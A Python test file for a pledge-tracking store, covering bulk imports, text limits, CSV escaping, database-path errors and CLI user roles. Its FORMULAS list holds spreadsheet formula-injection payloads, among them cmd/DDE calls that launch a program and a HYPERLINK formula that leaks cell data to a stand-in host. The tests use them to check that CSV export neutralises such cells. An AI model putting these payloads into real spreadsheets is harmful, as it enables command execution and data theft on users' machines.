"""The store under hostile and large input: bulk imports, spreadsheet safety, text limits,
database paths that are not stores, and writers who must be real users."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Connection, Table
from typer.testing import CliRunner

import guarantor.store.pledge_import as pledge_import
from guarantor.cli.app import app
from guarantor.errors import ConflictError, InputError
from guarantor.model import Pledge, Scenario
from guarantor.store import PledgeInput, Store
from guarantor.store.bulk import bulk_update_versioned
from guarantor.store.limits import NOTES_MAX
from guarantor.store.records import StoredPledge
from guarantor.store.schema import utcnow
from guarantor.store.tabular import (
    escape_cell,
    parse_pledges_csv,
    parse_pledges_json,
    pledges_to_csv,
    unescape_cell,
)

SC = "mnf-u-2026-01"
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"x")',
    " =1+1",
    "'=1+1",
]


@pytest.fixture()
def loaded(store: Store, default_scenario: Scenario) -> Store:
    with store.transaction("loader") as repo:
        repo.import_scenario(default_scenario)
    return store


def _rows(default_scenario: Scenario, n: int, bump: int = 0) -> list[PledgeInput]:
    out = []
    for i in range(n):
        base = default_scenario.pledges[i % len(default_scenario.pledges)]
        data = base.model_copy(update={"id": f"bulk-{i:05d}", "quantity": 1 + (i + bump) % 9})
        out.append(PledgeInput(data.model_dump(mode="json"), "bulk.json", i + 2))
    return out


def test_bulk_import_adds_updates_and_audits_every_row(
    loaded: Store, default_scenario: Scenario
) -> None:
    n = 1500
    with loaded.transaction("importer") as repo:
        summary = repo.import_pledges(SC, _rows(default_scenario, n))
    assert len(summary.added) == n and not summary.updated
    with loaded.transaction("importer") as repo:
        stored = {p.pledge.id: p for p in repo.list_pledges(SC)}
        audit = repo.audit(entity="pledge", limit=None)
    assert all(stored[f"bulk-{i:05d}"].version == 1 for i in range(n))
    assert [(e.action, e.actor) for e in audit] == [("create", "importer")] * n
    positions = [p.pledge.id for p in stored.values()]
    assert positions[-n:] == [f"bulk-{i:05d}" for i in range(n)]  # appended in file order
    changed = [
        PledgeInput(i.data, i.where, i.line, version=1) for i in _rows(default_scenario, n, 1)
    ]
    with loaded.transaction("updater") as repo:
        summary = repo.import_pledges(SC, changed)
        again = repo.get_pledge(SC, "bulk-00000")  # the same transaction sees the new state
    assert len(summary.updated) == n and not summary.added
    assert (again.version, again.pledge.quantity) == (2, 2)
    with loaded.transaction("x") as repo:
        entry = repo.audit(entity_id="bulk-00001")[-1]
    assert entry.before is not None and entry.after is not None
    assert (entry.before["quantity"], entry.after["quantity"]) == (2, 3)
    assert (entry.before["version"], entry.after["version"]) == (1, 2)


def test_bulk_import_is_all_or_nothing(loaded: Store, default_scenario: Scenario) -> None:
    items = _rows(default_scenario, 500)
    bad = dict(items[-1].data, capability="death-star")
    items[-1] = PledgeInput(bad, "bulk.json", 999)
    with pytest.raises(InputError) as err, loaded.transaction("x") as repo:
        repo.import_pledges(SC, items)
    assert [(p.line, p.path) for p in err.value.problems] == [(999, "capability")]
    with loaded.transaction("x") as repo:
        assert len(repo.list_pledges(SC)) == len(default_scenario.pledges)
        assert repo.audit(entity="pledge") == []


def test_a_row_changed_during_the_import_fails_it_whole(
    loaded: Store, default_scenario: Scenario, monkeypatch: pytest.MonkeyPatch
) -> None:
    with loaded.transaction("x") as repo:
        repo.import_pledges(SC, _rows(default_scenario, 50))

    def racing(conn: Connection, table: Table, rows: Sequence[Sequence[Any]], at: datetime) -> int:
        # Someone else's write lands between the version check and the bulk update.
        conn.execute(table.update().where(table.c.pledge_id == "bulk-00007").values(version=5))
        return bulk_update_versioned(conn, table, rows, at)

    monkeypatch.setattr(pledge_import, "bulk_update_versioned", racing)
    changed = [PledgeInput(i.data, i.where, version=1) for i in _rows(default_scenario, 50, 3)]
    with pytest.raises(ConflictError, match="nothing was written"), loaded.transaction("x") as repo:
        repo.import_pledges(SC, changed)
    with loaded.transaction("x") as repo:
        assert {p.version for p in repo.list_pledges(SC)} == {1}


@pytest.mark.parametrize(
    ("field", "value", "reason"),
    [
        ("notes", "x" * (NOTES_MAX + 1), f"at most {NOTES_MAX:,} characters"),
        ("notes", "a\x00b", "NUL"),
        ("notes", "lone \ud800 surrogate", "lone surrogate"),
        ("capability", "c" * 65, "at most 64 characters"),
    ],
)
def test_text_that_cannot_be_stored_is_refused_alike_on_every_backend(
    loaded: Store, field: str, value: str, reason: str
) -> None:
    data = {
        "id": "GBR-odd",
        "nation": "GBR",
        "capability": "frigate",
        "quantity": 1,
        "caveats": {"zones": ["black-sea"]},
        "provenance": {"source": "s", "date": "2026", "confidence": "low"},
        field: value,
    }
    with pytest.raises(InputError) as err, loaded.transaction("x") as repo:
        repo.add_pledge(SC, data)
    assert any(p.path == field and reason in p.reason for p in err.value.problems), err.value
    with pytest.raises(InputError), loaded.transaction("x") as repo:
        repo.update_pledge(SC, "GBR-training", 1, {field: value})
    with loaded.transaction("x") as repo:
        assert repo.get_pledge(SC, "GBR-training").version == 1


def test_scenario_names_and_versions_longer_than_their_columns_are_refused(
    loaded: Store, default_scenario: Scenario
) -> None:
    long = default_scenario.model_copy(update={"name": "n" * 129, "version": "1." + "0" * 40})
    with pytest.raises(InputError) as err, loaded.transaction("x") as repo:
        repo.import_scenario(long)
    assert {p.path for p in err.value.problems} >= {"name", "version"}
    with pytest.raises(InputError, match="actor"), loaded.transaction("a" * 129):
        pass


def test_export_escapes_formulas_and_import_reads_them_back(loaded: Store) -> None:
    with loaded.transaction("x") as repo:
        stored = repo.list_pledges(SC)[: len(FORMULAS)]
    hostile = [
        StoredPledge(
            scenario=SC,
            pledge=sp.pledge.model_copy(
                update={
                    "notes": text,
                    "provenance": sp.pledge.provenance.model_copy(update={"source": text}),
                }
            ),
            version=sp.version,
            updated_at=utcnow(),
        )
        for sp, text in zip(stored, FORMULAS, strict=True)
    ]
    text = pledges_to_csv(hostile)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell[:1] or cell[0] not in "=+-@\t\r\n ", cell
    assert all(line.startswith('"') for line in text.split("\n") if line)
    items = parse_pledges_csv(text, "hostile.csv")
    back = [Pledge.model_validate(dict(i.data)) for i in items]
    assert [p.notes for p in back] == FORMULAS
    assert [p.provenance.source for p in back] == FORMULAS


FREE_TEXT = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00"),
    min_size=1,
    max_size=40,
) | st.sampled_from(FORMULAS)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(notes=FREE_TEXT, source=FREE_TEXT.filter(lambda s: s.strip() != ""), note=FREE_TEXT)
def test_csv_round_trip_with_hostile_strings(notes: str, source: str, note: str) -> None:
    pledge = Pledge.model_validate(
        {
            "id": "GBR-x",
            "nation": "GBR",
            "capability": "frigate",
            "quantity": 2,
            "notes": notes,
            "provenance": {"source": source, "date": "2026", "confidence": "low", "note": note},
        }
    )
    sp = StoredPledge(scenario=SC, pledge=pledge, version=3, updated_at=utcnow())
    text = pledges_to_csv([sp])
    [item] = parse_pledges_csv(text, "r.csv")
    assert Pledge.model_validate(dict(item.data)) == pledge and item.version == 3
    for cell in next(iter(csv.reader(io.StringIO(text.split("\n", 1)[1], newline="")))):
        assert unescape_cell(escape_cell(cell)) == cell
        assert not cell[:1] or cell[0] not in "=+-@\t\r\n"


def test_byte_order_mark_is_accepted(loaded: Store) -> None:
    with loaded.transaction("x") as repo:
        stored = repo.list_pledges(SC)
    csv_items = parse_pledges_csv("\ufeff" + pledges_to_csv(stored), "bom.csv")
    assert [i.data["id"] for i in csv_items] == [s.pledge.id for s in stored]
    json_items = parse_pledges_json("\ufeff" + json.dumps([s.to_json() for s in stored]), "b.json")
    assert len(json_items) == len(stored)


def _cli(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, list(args), catch_exceptions=True)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.output


def test_database_that_is_not_a_store_is_one_clear_error(tmp_path: Path) -> None:
    text_file = tmp_path / "notes.txt"
    text_file.write_text("hello, not a database\n")
    missing = tmp_path / "no" / "such" / "folder" / "s.sqlite"
    for url, says in [
        (f"sqlite:///{text_file}", "not an SQLite database"),
        (f"sqlite:///{missing}", "does not exist"),
        (f"sqlite:///{tmp_path}", "is a folder"),
        (f"sqlite:///{text_file}/s.sqlite", "is not a folder"),
        (str(text_file), "not a database URL"),
    ]:
        for command in (["store", "list"], ["pledges", "list"], ["users", "list"]):
            code, output = _cli(*command, "--database", url)
            assert code == 2, (url, output)
            assert says in output and "Traceback" not in output, output
            assert output.count("error:") == 1, output
    assert not (tmp_path / "no").exists()
    assert text_file.read_text() == "hello, not a database\n"


def test_cli_writers_are_real_users(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    url = f"sqlite:///{tmp_path / 's.sqlite'}"
    monkeypatch.setenv("GUARANTOR_DATABASE_URL", url)
    monkeypatch.setenv("USER", "osuser")
    change = ["pledges", "update", "GBR-training", "--quantity"]
    # A personal store (no users): the login name is recorded, --as cannot be checked.
    assert _cli(*change, "3", "--version", "1")[0] == 0
    code, output = _cli(*change, "4", "--version", "2", "--as", "mallory")
    assert code == 2 and "no users" in output
    for name, role, nation in [
        ("pat", "planner", None),
        ("vic", "viewer", None),
        ("fred", "nation-editor", "FRA"),
    ]:
        extra = ["--nation", nation] if nation else []
        assert _cli("users", "add", "--name", name, "--role", role, *extra)[0] == 0
    # A shared store: only its users write, within their role.
    code, output = _cli(*change, "4", "--version", "2")
    assert code == 2 and "'osuser' is not a user" in output
    code, output = _cli(*change, "4", "--version", "2", "--as", "mallory")
    assert code == 2 and "'mallory' is not a user" in output
    code, output = _cli(*change, "4", "--version", "2", "--as", "vic")
    assert code == 2 and "viewer" in output
    code, output = _cli(*change, "4", "--version", "2", "--as", "fred")
    assert code == 2 and "FRA's pledges only" in output
    assert (
        _cli("pledges", "update", "FRA-bg", "--quantity", "2", "--version", "1", "--as", "fred")[0]
        == 0
    )
    assert _cli(*change, "4", "--version", "2", "--as", "pat")[0] == 0
    code, output = _cli("store", "import-scenario", SC, "--replace", "--as", "fred")
    assert code == 2 and "planners and admins only" in output
    code, output = _cli("pledges", "audit", "--json")
    actors = [(e["actor"], e["entity_id"]) for e in json.loads(output) if e["entity"] == "pledge"]
    assert actors == [("osuser", "GBR-training"), ("fred", "FRA-bg"), ("pat", "GBR-training")]
